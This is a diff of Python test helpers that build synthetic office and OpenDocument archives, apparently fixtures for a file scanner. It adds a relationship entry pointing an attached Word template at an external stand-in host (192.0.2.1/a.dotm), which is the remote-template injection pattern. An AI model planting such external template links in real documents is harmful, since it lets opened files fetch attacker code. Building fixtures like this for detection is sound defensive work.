@@ -23,15 +23,26 @@ def archive(**entries: bytes) -> bytes:
     return out.getvalue()
 
 
-def office(main: str, part: str = "word/document.xml", **more: bytes) -> bytes:
-    types = f'<Types><Override PartName="/{part}" ContentType="{main}"/></Types>'
+TEMPLATE = (
+    b'<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://192.0.2.1/a.dotm"'
+    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    b"</Relationships>"
+)
+
+
+def office(
+    main: str, part: str = "word/document.xml", *, types: str = "", doctype: str = "", **more: bytes
+) -> bytes:
+    """`types`: more of its list of types than the main part's."""
+    main_part = f'<Override PartName="/{part}" ContentType="{main}"/>'
+    types = f"{doctype}<Types>{main_part}{types}</Types>"
     entries = {"[Content_Types].xml": types.encode(), part.replace("/", "__"): b"<x/>"}
     return archive(**entries, **more)
 
 
-def open_document(kind: str) -> bytes:
+def open_document(kind: str, **more: bytes) -> bytes:
     return archive(mimetype=f"application/vnd.oasis.opendocument.{kind}".encode(),
-                   **{"content.xml": b"<x/>"})  # fmt: skip
+                   **{"content.xml": b"<x/>"}, **more)  # fmt: skip
 
 
 def bomb() -> bytes:
